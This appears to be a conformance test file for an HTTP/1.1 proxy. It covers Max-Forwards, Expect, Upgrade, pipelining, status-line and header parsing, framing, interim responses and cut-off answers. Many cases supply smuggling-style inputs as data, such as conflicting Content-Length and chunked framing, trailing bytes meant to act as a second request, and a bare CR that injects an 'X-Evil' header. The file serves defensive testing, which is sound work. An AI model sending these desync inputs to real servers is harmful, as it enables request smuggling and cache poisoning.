> TRACE $T/ HTTP/1.1\r\n$HMax-Forwards: 0\r\nCookie: secret\r\nAuthorization: secret\r\nProxy-Authorization: secret\r\n\r\n
= 200
without secret
@count 0
case OPTIONS counts Max-Forwards down
> OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: 10\r\n\r\n
= 200 ok
@ OPTIONS / HTTP/1.1
has Max-Forwards: 9
case OPTIONS counts Max-Forwards down to 0
> OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: 1\r\n\r\n
= 200 ok
@ OPTIONS / HTTP/1.1
has Max-Forwards: 0
case TRACE counts Max-Forwards down
> TRACE $T/ HTTP/1.1\r\n$HMax-Forwards: 5\r\n\r\n
= 200 ok
@ TRACE / HTTP/1.1
has Max-Forwards: 4
case TRACE without Max-Forwards passes
> TRACE $T/ HTTP/1.1\r\n$H\r\n
= 200 ok
@ TRACE / HTTP/1.1
case Max-Forwards of GET passes as it is
> $GMax-Forwards: 0\r\n\r\n
= 200 ok
@ *
has Max-Forwards: 0
400 Max-Forwards of letters :: OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: abc\r\n\r\n
400 a negative Max-Forwards :: OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: -1\r\n\r\n
400 Max-Forwards with a sign :: OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: +1\r\n\r\n
400 an empty Max-Forwards :: OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards:\r\n\r\n
400 a list in Max-Forwards :: OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: 1, 2\r\n\r\n
400 two Max-Forwards :: OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: 1\r\nMax-Forwards: 1\r\n\r\n
400 Max-Forwards of letters with TRACE :: TRACE $T/ HTTP/1.1\r\n$HMax-Forwards: x\r\n\r\n
case a huge Max-Forwards does not wrap
> OPTIONS $T/ HTTP/1.1\r\n$HMax-Forwards: 18446744073709551616\r\n\r\n
= 200|400
@count 0-1
end any
400 TRACE with content :: TRACE $T/ HTTP/1.1\r\n$H$CL 2\r\n\r\nab
400 TRACE with chunked content :: TRACE $T/ HTTP/1.1\r\n$H$TE\r\n2\r\nab\r\n0\r\n\r\n
case OPTIONS with content passes
> OPTIONS $T/ HTTP/1.1\r\n$H$CL 2\r\n\r\nab
= 200 ok
@ *
content ab

# ---- Expect (9110, 10.1.1) ----
case the client waits for 100
> $PExpect: 100-continue\r\n$CL 2\r\n\r\n
= 100
> hi
<h HTTP/1.1 100 Continue\r\n\r\n
<= $OK2
=1xx 200 ok
@ POST / HTTP/1.1
content hi
case Expect in any case
> $PExpect: 100-Continue\r\n$CL 2\r\n\r\nhi
=1xx 200 ok
@ *
content hi
case the client waits for 100 with chunked content
> $PExpect: 100-continue\r\n$TE\r\n
= 100
> 2\r\nhi\r\n0\r\n\r\n
<h HTTP/1.1 100 Continue\r\n\r\n
<= $OK2
=1xx 200 ok
@ *
content hi
case the content comes though no 100 does
> $PExpect: 100-continue\r\n$CL 2\r\n\r\n
> hi
=1xx 200 ok
@ *
content hi
case Expect without content
> $GExpect: 100-continue\r\n\r\n
=1xx 200 ok
case a final answer instead of 100
> $PExpect: 100-continue\r\n$CL 2\r\n\r\n
<h HTTP/1.1 403 Forbidden\r\n$CL 2\r\nConnection: close\r\n\r\nno
<close
=1xx 403 no
@count 0
end skip
417~ another expectation :: $GExpect: x\r\n\r\n
417~ another expectation besides 100-continue :: $PExpect: 100-continue, x\r\n$CL 2\r\n\r\nhi
417~ 100-continue with a parameter :: $PExpect: 100-continue;a=b\r\n$CL 2\r\n\r\nhi
case Expect of a 1.0 client is ignored
> POST $T/ HTTP/1.0\r\n$HExpect: 100-continue\r\n$CL 2\r\n\r\nhi
= 200 ok
@ *
content hi
end closed
case a 1.0 client gets no 100 of the origin
> POST $T/ HTTP/1.0\r\n$HExpect: 100-continue\r\n$CL 2\r\n\r\nhi
<h HTTP/1.1 100 Continue\r\n\r\n
<= $OK2
= 200 ok
end closed
case a final answer before the content
> $P$CL 100000\r\n\r\nabc
<h HTTP/1.1 413 Too Large\r\n$CL 2\r\nConnection: close\r\n\r\nno
<close
= 413 no
@count 0
end skip
case a final answer before the chunked content
> $C2\r\nab\r\n
<h HTTP/1.1 413 Too Large\r\n$CL 2\r\n\r\nno
= 413 no
@count 0
upstream closed
end skip

# ---- Upgrade (9110, 7.8; 15.2.2) ----
case an upgrade for one protocol becomes a tunnel
> $G$WS\r\n
< $WA
= 101
has Upgrade: websocket
@ GET / HTTP/1.1
has Upgrade: websocket
has Connection: *
> ping\0\xff
=raw ping\0\xff
shut
=raw BYE
end closed
case octets that follow the 101 reach the client
> $G$WS\r\n
< $WAhello
= 101
=raw hello
> a
=raw a
end skip
case octets sent before the 101 reach the origin after it
> $G$WS\r\nearly
< 
<+ $WA
= 101
=raw early
end skip
@count 1
case an upgrade that the origin declines
> $G$WS\r\n
= 200 ok
case a request after a declined upgrade
> $G$WS\r\nGET $T/second HTTP/1.1\r\n$H\r\n
= 200 ok
= 200 ok
@ GET / HTTP/1.1
@ GET /second HTTP/1.1
case h2c is dropped
> $GConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n
= 200 ok
@ GET / HTTP/1.1
lacks Upgrade HTTP2-Settings
case TLS is dropped
> $GConnection: Upgrade\r\nUpgrade: TLS/1.2\r\n\r\n
= 200 ok
@ *
lacks Upgrade
case HTTP is dropped
> $GConnection: Upgrade\r\nUpgrade: HTTP/2.0\r\n\r\n
= 200 ok
@ *
lacks Upgrade
case several protocols are dropped
> $GConnection: Upgrade\r\nUpgrade: websocket, h2c\r\n\r\n
= 200 ok
@ *
lacks Upgrade
case two Upgrade lines are dropped
> $GConnection: Upgrade\r\nUpgrade: websocket\r\nUpgrade: h2c\r\n\r\n
= 200 ok
@ *
lacks Upgrade
case an Upgrade that Connection does not name is dropped
> $GUpgrade: websocket\r\n\r\n
= 200 ok
@ *
lacks Upgrade
case an upgrade with content is dropped
> $PConnection: Upgrade\r\nUpgrade: websocket\r\n$CL 2\r\n\r\nab
= 200 ok
@ *
lacks Upgrade
content ab
case an upgrade of a 1.0 client is dropped
> $OLDConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n
= 200 ok
@ *
lacks Upgrade
end closed
bad a 101 not asked for :: HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: websocket\r\n\r\n
case a 101 after a dropped h2c
> $GConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AA\r\n\r\n
< HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: h2c\r\n\r\n
= 502
end any
upstream closed
case a 101 to another protocol than asked for
> $GConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n
< HTTP/1.1 101 Switching Protocols\r\nConnection: upgrade\r\nUpgrade: other\r\n\r\n
= 502
end any

# ---- persistence and pipelining (9112, 9.3) ----
case pipelined requests are answered in order
> GET $T/1 HTTP/1.1\r\n$H\r\nGET $T/2 HTTP/1.1\r\n$H\r\nGET $T/3 HTTP/1.1\r\n$H\r\n
< $OK$CL 1\r\n\r\n1
< $OK$TE\r\n1\r\n2\r\n0\r\n\r\n
< $OK$CL 1\r\n\r\n3
= 200 1
= 200 2
= 200 3
@ GET /1 HTTP/1.1
@ GET /2 HTTP/1.1
@ GET /3 HTTP/1.1
case pipelined requests with content
> $P$CL 3\r\n\r\nabc$C2\r\nde\r\n0\r\n\r\n$P$CL 0\r\n\r\n$G\r\n
= 200 ok
= 200 ok
= 200 ok
= 200 ok
@ *
content abc
@ *
content de
@ *
content ""
@ GET / HTTP/1.1
case eight pipelined requests
> \{8:$G\r\n}
= 200 ok
= 200 ok
= 200 ok
= 200 ok
= 200 ok
= 200 ok
= 200 ok
= 200 ok
case an empty line between pipelined requests
> $P$CL 2\r\n\r\nab\r\n$G\r\n
= 200 ok
= 200 ok
@ *
content ab
@ GET / HTTP/1.1
case a good request before a bad one is answered
> $G\r\nGET  $T/ HTTP/1.1\r\n$H\r\nGET $T/evil HTTP/1.1\r\n$H\r\n
= 200 ok
= 400
@count 1
end closed
case too much content by Content-Length is the next request
> $P$CL 2\r\n\r\nabXX\r\n\r\n
= 200 ok
= 400
@count 1
end closed
case HEAD between pipelined requests
> HEAD $T/ HTTP/1.1\r\n$H\r\n$G\r\n
< $OK$CL 2\r\n\r\n
=head 200
has Content-Length: 2
= 200 ok
case Connection: close closes and what follows is ignored
> $GConnection: close\r\n\r\nGET $T/evil HTTP/1.1\r\n$H\r\n
= 200 ok
has Connection: close
@count 1
end closed
case close in any case and list
> $GConnection: keep-alive, CLOSE\r\n\r\n
= 200 ok
end closed
case close on a second line
> $GConnection: keep-alive\r\nConnection: close\r\n\r\n
= 200 ok
end closed
case a 1.0 client's connection closes
> $OLD\r\n
= 200 ok
end closed
case a 1.0 client with keep-alive
> $OLDConnection: keep-alive\r\n\r\n
= 200 ok
end any
case what follows a 1.0 request is ignored
> $OLD\r\nGET $T/evil HTTP/1.1\r\n$H\r\n
= 200 ok
@count 1
end closed
case a client that half-closes gets its answer
> $G\r\n
shut
= 200 ok
end closed
case a client that says nothing and half-closes
shut
= none
@count 0
end closed
case a head cut by the end of the stream
> GET $T/ HTTP/1.1\r\nHost: a
shut
= 400|none
@count 0
end closed
case a request line cut by the end of the stream
> GET $T/ HTT
shut
= 400|none
@count 0
end closed
case the origin's close is not the client's
> $G\r\n
< $OKConnection: close\r\n$CL 2\r\n\r\nok
<close
= 200 ok
case octets in two pieces, cut in the head
> GET $T/ HTTP/1.1\r\nHo
> st: $HOST\r\n\r
> \n
= 200 ok
@ GET / HTTP/1.1
case octets in pieces, cut in chunk heads
> $C2
> \r\na
> b\r
> \n0
> \r\n\r
> \n
= 200 ok
@ *
content ab

# ---- status lines (9112, 4) ----
case an empty reason
> $G\r\n
< HTTP/1.1 200 \r\n$CL 2\r\n\r\nok
= 200 ok
case a reason with 8-bit octets and blanks
> $G\r\n
< HTTP/1.1 404 n\xf6t  here\t!\r\n$CL 2\r\n\r\nno
= 404 no
case an unknown status passes
> $G\r\n
< HTTP/1.1 299 Odd\r\n$CL 2\r\n\r\nok
= 299 ok
case status 599 passes
> $G\r\n
< HTTP/1.1 599 Odd\r\n$CL 2\r\n\r\nok
= 599 ok
case an answer of version 1.9
> $G\r\n
< HTTP/1.9 200 OK\r\n$CL 2\r\n\r\nok
= 200|502
end any
bad no space after the status :: HTTP/1.1 200\r\n$CL 2\r\n\r\nok
bad a status of two digits :: HTTP/1.1 20 OK\r\n$CL 2\r\n\r\nok
bad a status of four digits :: HTTP/1.1 2000 OK\r\n$CL 2\r\n\r\nok
bad a status of letters :: HTTP/1.1 abc OK\r\n$CL 2\r\n\r\nok
bad a status with a sign :: HTTP/1.1 +20 OK\r\n$CL 2\r\n\r\nok
bad status 099 :: HTTP/1.1 099 OK\r\n$CL 2\r\n\r\nok
bad status 000 :: HTTP/1.1 000 OK\r\n$CL 2\r\n\r\nok
bad status 600 :: HTTP/1.1 600 OK\r\n$CL 2\r\n\r\nok
bad status 999 :: HTTP/1.1 999 OK\r\n$CL 2\r\n\r\nok
bad two spaces before the status :: HTTP/1.1  200 OK\r\n$CL 2\r\n\r\nok
bad a tab before the status :: HTTP/1.1\t200 OK\r\n$CL 2\r\n\r\nok
bad an answer of version 2.0 :: HTTP/2.0 200 OK\r\n$CL 2\r\n\r\nok
bad an answer of version 0.9 :: HTTP/0.9 200 OK\r\n$CL 2\r\n\r\nok
bad an answer of version 1.10 :: HTTP/1.10 200 OK\r\n$CL 2\r\n\r\nok
bad an answer without minor version :: HTTP/1 200 OK\r\n$CL 2\r\n\r\nok
bad an answer in lower case :: http/1.1 200 OK\r\n$CL 2\r\n\r\nok
bad an answer of another protocol :: ICY 200 OK\r\n$CL 2\r\n\r\nok
bad a space before the status line ::  HTTP/1.1 200 OK\r\n$CL 2\r\n\r\nok
bad no status line :: <html>hello</html>\r\n\r\n
bad an empty line before the status line :: \r\nHTTP/1.1 200 OK\r\n$CL 2\r\n\r\nok
bad NUL in the reason :: HTTP/1.1 200 O\0K\r\n$CL 2\r\n\r\nok
bad a bare CR in the reason :: HTTP/1.1 200 O\rK\r\n$CL 2\r\n\r\nok
bad a control in the reason :: HTTP/1.1 200 O\x01K\r\n$CL 2\r\n\r\nok
case text without a status line, then the end
> $G\r\n
< hello
<close
= 502
end any

# ---- fields of answers (9112, 5) ----
case a space before an answer's colon is removed
> $G\r\n
< $OKA : b\r\n$CL 2\r\n\r\nok
= 200|502
end any
case obs-fold in an answer becomes a space
> $G\r\n
< $OKA: b\r\n c\r\n$CL 2\r\n\r\nok
= 200|502
end any
bad no colon in an answer :: $OKabc\r\n$CL 2\r\n\r\nok
bad an empty name in an answer :: $OK: b\r\n$CL 2\r\n\r\nok
bad a space in an answer's name :: $OKA b: c\r\n$CL 2\r\n\r\nok
bad a parenthesis in an answer's name :: $OKA(b: c\r\n$CL 2\r\n\r\nok
bad an 8-bit octet in an answer's name :: $OKA\xe9: c\r\n$CL 2\r\n\r\nok
bad NUL in an answer's name :: $OKA\0: c\r\n$CL 2\r\n\r\nok
bad NUL in an answer's value :: $OKA: b\0c\r\n$CL 2\r\n\r\nok
bad a bare CR in an answer's value :: $OKA: b\rX-Evil: 1\r\n$CL 2\r\n\r\nok
bad a control in an answer's value :: $OKA: b\x01c\r\n$CL 2\r\n\r\nok
bad DEL in an answer's value :: $OKA: b\x7fc\r\n$CL 2\r\n\r\nok
bad two CR at the end of an answer's line :: $OKA: b\r\r\n$CL 2\r\n\r\nok
bad a blank before an answer's first field :: $OK A: b\r\n$CL 2\r\n\r\nok
case bare LFs in an answer
> $G\r\n
< HTTP/1.1 200 OK\nContent-Length: 2\n\nok
= 502
end any
upstream closed
bad 5000 options of Connection in an answer :: $OKConnection: \{5000:a,}b\r\n$CL 2\r\n\r\nok
bad 300 fields of an answer :: $OK\{300:A: b\r\n}$CL 2\r\n\r\nok
bad a value of 100000 octets in an answer :: $OKA: \{100000:v}\r\n$CL 2\r\n\r\nok
bad a status line of 100000 octets :: HTTP/1.1 200 \{100000:v}\r\n$CL 2\r\n\r\nok
bad an answer's header section without end :: $OK\{40000:A: b\r\n}
case 120 fields of an answer pass
> $G\r\n
< $OK\{119:A: b\r\n}$CL 2\r\n\r\nok
= 200 ok

# ---- framing of answers (9112, 6) ----
bad an empty length of an answer :: $OK$CL\r\n\r\nok
bad letters as an answer's length :: $OK$CL abc\r\n\r\nok
bad a sign in an answer's length :: $OK$CL +2\r\n\r\nok
bad a negative length of an answer :: $OK$CL -2\r\n\r\nok
bad a hexadecimal length of an answer :: $OK$CL 0x2\r\n\r\nok
bad a fraction as an answer's length :: $OK$CL 2.0\r\n\r\nok
bad a space in an answer's length :: $OK$CL 0 2\r\n\r\nok
bad an answer's length of two to the 63rd :: $OK$CL 9223372036854775808\r\n\r\nok
bad an answer's length of two to the 64th and two :: $OK$CL 18446744073709551618\r\n\r\nok
bad two lengths of an answer that differ :: $OK$CL 2\r\n$CL 3\r\n\r\nokx
bad a list of an answer's lengths that differ :: $OK$CL 2, 3\r\n\r\nokx
bad a vertical tab in an answer's length :: $OK$CL \x0b2\r\n\r\nok
case two equal lengths of an answer
> $G\r\n
< $OK$CL 2\r\n$CL 2\r\n\r\nok
= 200|502
end any
case a list of an answer's equal lengths
> $G\r\n
< $OK$CL 2, 2\r\n\r\nok
= 200|502
end any
case Content-Length and chunked in an answer
> $G\r\n
< $OK$CL 5\r\n$TE\r\n2\r\nok\r\n0\r\n\r\n
= 200|502
end any
case Content-Length and chunked in an answer: the octets after it answer nothing
> $G\r\n
< $OK$CL 2\r\n$TE\r\n2\r\nok\r\n0\r\n\r\n$EVIL
= 200|502
end any
upstream closed
bad an unknown coding of an answer :: $OKTransfer-Encoding: x\r\n\r\nok
bad gzip, chunked in an answer :: $OKTransfer-Encoding: gzip, chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n
bad chunked, gzip in an answer :: $OKTransfer-Encoding: chunked, gzip\r\n\r\n2\r\nok\r\n0\r\n\r\n
bad chunked twice in an answer :: $OKTransfer-Encoding: chunked, chunked\r\n\r\n2\r\nok\r\n0\r\n\r\n
bad two Transfer-Encoding in an answer :: $OK$TE$TE\r\n2\r\nok\r\n0\r\n\r\n
bad xchunked in an answer :: $OKTransfer-Encoding: xchunked\r\n\r\n2\r\nok\r\n0\r\n\r\n
bad an empty Transfer-Encoding in an answer :: $OKTransfer-Encoding:\r\n\r\n2\r\nok\r\n0\r\n\r\n
bad a vertical tab before an answer's chunked :: $OKTransfer-Encoding: \x0bchunked\r\n\r\n2\r\nok\r\n0\r\n\r\n
bad identity in an answer :: $OKTransfer-Encoding: identity\r\n$CL 2\r\n\r\nok
bad chunked in a 1.0 answer :: HTTP/1.0 200 OK\r\n$TE\r\n2\r\nok\r\n0\r\n\r\n
case chunked in any case in an answer
> $G\r\n
< $OKTransfer-Encoding: CHUNKED\r\n\r\n2\r\nok\r\n0\r\n\r\n
= 200 ok
case a chunked answer with extensions
> $G\r\n
< $OK$TE\r\n1;a=b\r\no\r\n1;c\r\nk\r\n0;d="e"\r\n\r\n
= 200 ok
case a chunked answer's trailer field is passed on
> $GTE: trailers\r\nConnection: TE\r\n\r\n
< $OK$TETrailer: X-Sum\r\n\r\n2\r\nok\r\n0\r\nX-Sum: 1\r\n\r\n
= 200 ok
trailer X-Sum: 1
case a trailer field that frames does not go on in an answer
> $G\r\n
< $OK$TE\r\n2\r\nok\r\n0\r\nContent-Length: 5\r\nConnection: close\r\nA: b\r\n\r\n
= 200 ok
lacks Content-Length
case a chunked answer in pieces
> $G\r\n
< $OK$TE
<+ \r\n2\r
<+ \nok
<+ \r\n0\r\n
<+ \r\n
= 200 ok
case an answer by Content-Length in pieces
> $G\r\n
< HTTP/1.1 20
<+ 0 OK\r\n$CL 4\r
<+ \n\r\no
<+ kok
= 200 okok
case an answer of a megabyte
> $G\r\n
< $OK$CL 1048576\r\n\r\n\{1048576:x}
= 200 \{1048576:x}
case a chunked answer of 300000 octets
> $G\r\n
< $OK$TE\r\n493e0\r\n\{300000:y}\r\n0\r\n\r\n
= 200 \{300000:y}
case an answer that ends with the connection is framed anew
> $G\r\n
< $OKX-A: b\r\n\r\nhello
<close
= 200 hello
has Transfer-Encoding: chunked
case a 1.0 answer that ends with the connection is framed anew
> $G\r\n
< HTTP/1.0 200 OK\r\n\r\nhello
<close
= 200 hello
case an answer in pieces that ends with the connection
> $G\r\n
< $OK\r\nhel
<+ lo
<+  you
<close
= 200 hello you
case an answer that ends with the origin's half-close
> $G\r\n
< $OKConnection: close\r\n\r\nhello
<close
= 200 hello
case an empty answer that ends with the connection
> $G\r\n
< $OKA: b\r\n\r\n
<close
= 200 ""
case a 1.0 client gets no chunked coding
> $OLD\r\n
< $OK$TE\r\n2\r\nab\r\n3\r\ncde\r\n0\r\nX: y\r\n\r\n
= 200 abcde
lacks Transfer-Encoding
end closed
case a 1.0 client and an answer that ends with the connection
> $OLD\r\n
< $OKA: b\r\n\r\nhello
<close
= 200 hello
lacks Transfer-Encoding
end closed
case a 1.0 client with keep-alive gets no chunked coding
> $OLDConnection: keep-alive\r\n\r\n
< $OK$TE\r\n2\r\nab\r\n0\r\n\r\n
= 200 ab
lacks Transfer-Encoding
end closed

# ---- answers without content (9112, 6.3) ----
case HEAD with a length
> HEAD $T/ HTTP/1.1\r\n$H\r\n
< $OK$CL 100\r\n\r\n
=head 200
has Content-Length: 100
@ HEAD / HTTP/1.1
case HEAD with chunked
> HEAD $T/ HTTP/1.1\r\n$H\r\n
< $OK$TE\r\n
=head 200
case HEAD without framing
> HEAD $T/ HTTP/1.1\r\n$H\r\n
< $OKA: b\r\n\r\n
=head 200
has A: b
case HEAD answered with content: it answers nothing
> HEAD $T/ HTTP/1.1\r\n$H\r\n
< $EVIL
=head 200
upstream closed
end any
case HEAD answered with chunked content: it answers nothing
> HEAD $T/ HTTP/1.1\r\n$H\r\n
< $OK$TE\r\n4\r\nevil\r\n0\r\n\r\n
=head 200
upstream closed
end any
case HEAD of a 1.0 client
> HEAD $T/ HTTP/1.0\r\n$H\r\n
< $OK$TE\r\n
=head 200
lacks Transfer-Encoding
end closed
case 204 without framing
> $G\r\n
< HTTP/1.1 204 No Content\r\nA: b\r\n\r\n
= 204 ""
upstream kept
case 204 with a length
> $G\r\n
< HTTP/1.1 204 No Content\r\n$CL 5\r\n\r\n
= 204 ""
lacks Content-Length Transfer-Encoding
end any
case 204 with a length and content: it answers nothing
> $G\r\n
< HTTP/1.1 204 No Content\r\n$CL 5\r\n\r\nhello
= 204 ""
upstream closed
end any
case 204 with chunked: it answers nothing
> $G\r\n
< HTTP/1.1 204 No Content\r\n$TE\r\n5\r\nhello\r\n0\r\n\r\n
= 204|502
upstream closed
end any
case 204 and another answer: it answers nothing
> $G\r\n
< HTTP/1.1 204 No Content\r\nA: b\r\n\r\n$EVIL
= 204 ""
upstream closed
end any
case 304 with a length
> $G\r\n
< HTTP/1.1 304 Not Modified\r\n$CL 5\r\nETag: "a"\r\n\r\n
= 304 ""
has ETag: "a"
case 304 with chunked
> $G\r\n
< HTTP/1.1 304 Not Modified\r\n$TE\r\n
= 304|502
end any
case 304 with content: it answers nothing
> $G\r\n
< HTTP/1.1 304 Not Modified\r\n$CL 5\r\n\r\nhello
= 304 ""
upstream closed
end any
case 304 and another answer: it answers nothing
> $G\r\n
< HTTP/1.1 304 Not Modified\r\nA: b\r\n\r\n$EVIL
= 304 ""
upstream closed
end any
case 205 with content
> $G\r\n
< HTTP/1.1 205 Reset Content\r\n$CL 0\r\n\r\n
= 205 ""

# ---- interim answers (9110, 15.2) ----
case 103 is passed on
> $G\r\n
< HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n$OK2
= 103
has Link: </a>
= 200 ok
case 102 is passed on
> $G\r\n
< HTTP/1.1 102 Processing\r\n\r\n
<+ $OK2
= 102
= 200 ok
case an unknown interim status
> $G\r\n
< HTTP/1.1 150 Odd\r\n\r\n$OK2
=1xx 200 ok
case a 100 not asked for
> $G\r\n
< HTTP/1.1 100 Continue\r\n\r\n$OK2
=1xx 200 ok
case several interim answers
> $G\r\n
< HTTP/1.1 103 A\r\nLink: 1\r\n\r\nHTTP/1.1 102 B\r\n\r\nHTTP/1.1 103 C\r\nLink: 2\r\n\r\n$OK2
= 103
= 102
= 103
= 200 ok
case the framing of interim answers is dropped
> $G\r\n
< HTTP/1.1 103 A\r\n$CL 5\r\nLink: 1\r\n\r\n$OK2
= 103
lacks Content-Length Transfer-Encoding
= 200 ok
case interim answers with chunked have no content
> $G\r\n
< HTTP/1.1 103 A\r\n$TE\r\n$OK2
= 103
lacks Content-Length Transfer-Encoding
= 200 ok
case a 1.0 client gets no interim answer
> $OLD\r\n
< HTTP/1.1 103 A\r\n\r\nHTTP/1.1 100 Continue\r\n\r\nHTTP/1.1 102 B\r\n\r\n$OK2
= 200 ok
end closed
case hop-by-hop fields of interim answers are removed
> $G\r\n
< HTTP/1.1 103 A\r\nConnection: X-A\r\nX-A: 1\r\nKeep-Alive: x\r\nLink: 1\r\n\r\n$OK2
= 103
lacks X-A Keep-Alive
= 200 ok
case an interim answer, then the end
> $G\r\n
< HTTP/1.1 103 A\r\n\r\n
<close
=1xx 502|none
end any
case a malformed interim answer
> $G\r\n
< HTTP/1.1 103 A\r\nA b: c\r\n\r\n$OK2
= 502
upstream closed
end any
case interim answers without end
> $G\r\n
< \{2000:HTTP/1.1 103 A\r\n\r\n}
=1xx 502|none
upstream closed
end any

# ---- answers that are cut off (9112, 8) ----
case cut by the end: less than Content-Length
> $G\r\n
< $OK$CL 10\r\n\r\nabc
<close
=cut 200 abc
end any
case cut by the end: Content-Length and nothing
> $G\r\n
< $OK$CL 10\r\n\r\n
<close
=cut 200 ""
end any
case cut by a reset: less than Content-Length
> $G\r\n
< $OK$CL 10\r\n\r\nabc
<rst
=cut 200 abc
end any
case cut by the end later: less than Content-Length
> $G\r\n
< $OK$CL 10\r\n\r\nabc
<+ def
<close
=cut 200 abcdef
end any
case cut by the end: within a chunk
> $G\r\n
< $OK$TE\r\n5\r\nabc
<close
=cut 200 abc
end any
case cut by the end: between chunks
> $G\r\n
< $OK$TE\r\n3\r\nabc\r\n
<close
=cut 200 abc
end any
case cut by the end: before the first chunk
> $G\r\n
< $OK$TE\r\n
<close
=cut 200 ""
end any
case cut by the end: after the last size
> $G\r\n
< $OK$TE\r\n3\r\nabc\r\n0\r\n
<close
=cut 200 abc
end any
case cut by the end: within the trailer section
> $G\r\n
< $OK$TE\r\n3\r\nabc\r\n0\r\nA: b\r\n
<close
=cut 200 abc
end any
case cut by a reset: within a chunk
> $G\r\n
< $OK$TE\r\n5\r\nabc
<rst
=cut 200 abc
end any
case cut by a reset: between chunks
> $G\r\n
< $OK$TE\r\n3\r\nabc\r\n
<rst
=cut 200 abc
end any
case cut by a reset: an answer that ends with the connection
> $G\r\n
< $OKA: b\r\n\r\nabc
<+ def
<rst
=cut 200 abcdef
end any
case cut for a 1.0 client: within a chunk
> $OLD\r\n
< $OK$TE\r\n5\r\nabc
<close
=cut 200 abc
end any
case cut for a 1.0 client: between chunks
> $OLD\r\n
< $OK$TE\r\n3\r\nabc\r\n
<+ 3\r\ndef\r\n
<close
=cut 200 abcdef
end any
case cut for a 1.0 client: less than Content-Length
> $OLD\r\n
< $OK$CL 10\r\n\r\nabc
<close
=cut 200 abc
end any
case cut for a 1.0 client: a reset
> $OLD\r\n
< $OKA: b\r\n\r\nabc
<+ def
<rst
=cut 200 abcdef
end any
case broken chunk of an answer: letters for a size
> $G\r\n
< $OK$TE\r\n3\r\nabc\r\nzz\r\n0\r\n\r\n
=cut 200 abc
upstream closed
end any
case broken chunk of an answer: the first size
> $G\r\n
< $OK$TE\r\nxyz\r\nabc\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: more data than the size
> $G\r\n
< $OK$TE\r\n2\r\nabc\r\n0\r\n\r\n
=cut 200 ab
upstream closed
end any
case broken chunk of an answer: bare LFs
> $G\r\n
< $OK$TE\r\n2\nab\n0\n\n
=cut 200 ab
upstream closed
end any
case broken chunk of an answer: a size beyond two to the 64th
> $G\r\n
< $OK$TE\r\n10000000000000002\r\nab\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: a size of two to the 63rd
> $G\r\n
< $OK$TE\r\n8000000000000002\r\nab\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: a negative size
> $G\r\n
< $OK$TE\r\n-2\r\nab\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: 0x
> $G\r\n
< $OK$TE\r\n0x2\r\nab\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: NUL in an extension
> $G\r\n
< $OK$TE\r\n2;\0\r\nab\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: a malformed trailer section
> $G\r\n
< $OK$TE\r\n2\r\nab\r\n0\r\nA b\r\n\r\n
=cut 200 ab
upstream closed
end any
case broken chunk of an answer: a size of 17 digits
> $G\r\n
< $OK$TE\r\n00000000000000002\r\nab\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: extensions of 20000 octets
> $G\r\n
< $OK$TE\r\n2;a=\{20000:e}\r\nab\r\n0\r\n\r\n
=cut 200 ""
upstream closed
end any
case broken chunk of an answer: extensions of 100000 octets in many chunks
> $G\r\n
< $OK$TE\r\n\{2000:1;a=\{50:e}\r\nz\r\n}0\r\n\r\n
=cut 200 \{2000:z}
upstream closed
end any
once
case broken chunk of an answer: 300 trailer fields
> $G\r\n
< $OK$TE\r\n2\r\nab\r\n0\r\n\{300:A: b\r\n}\r\n
=cut 200 ab
upstream closed
end any
case broken chunk of an answer: a trailer section of 20000 octets
> $G\r\n
< $OK$TE\r\n2\r\nab\r\n0\r\nA: \{20000:b}\r\n\r\n
=cut 200 ab
upstream closed
end any
case broken chunk of an answer that comes later
> $G\r\n
< $OK$TE\r\n2\r\nab\r\n
<+ q\r\n0\r\n\r\n
=cut 200 ab
upstream closed
end any
case broken chunk of an answer for a 1.0 client
> $OLD\r\n
< $OK$TE\r\n2\r\nab\r\n
<+ q\r\n0\r\n\r\n
=cut 200 ab
upstream closed
end any
case what is pipelined after a cut answer is not answered
> $G\r\nGET $T/second HTTP/1.1\r\n$H\r\n
< $OK$CL 10\r\n\r\nabc
<+ d
<close
=cut 200 abcd
@count 1-2
end skip

# ---- the origin goes away (9112, 9.3.1) ----
case the origin closes a new connection without an answer
fresh
> $P$CL 2\r\n\r\nab
< 
<close
= 502
@count 1
end any
case the origin resets a new connection without an answer
fresh
> $P$CL 2\r\n\r\nab
< 
<rst
= 502
@count 1
end any
case the origin closes within the head
> $G\r\n
< HTTP/1.1 200 OK\r\nCont
<close
= 502
end any
case the origin resets within the head
> $G\r\n
< HTTP/1.1 200 OK\r\nCont
<rst
= 502
end any
case GET is sent again if a kept connection ends without an answer
fresh
> $G\r\n
= 200 ok
> GET $T/again HTTP/1.1\r\n$H\r\n
< $OK2
< 
<close
< $OK$CL 5\r\n\r\nagain
= 200 again
@count 3
case POST is sent again if a kept connection ends without an answer and all its content is at hand
once
fresh
> $G\r\n
= 200 ok
> $P$CL 2\r\n\r\nab
< $OK2
< 
<close
< $OK2
= 200 ok
@count 3
end any
case a kept connection that the origin closes meanwhile is not used
fresh
> $G\r\n
< $OK2
<+ 
<close
= 200 ok
> $P$CL 2\r\n\r\nab
= 200 ok
@count 2

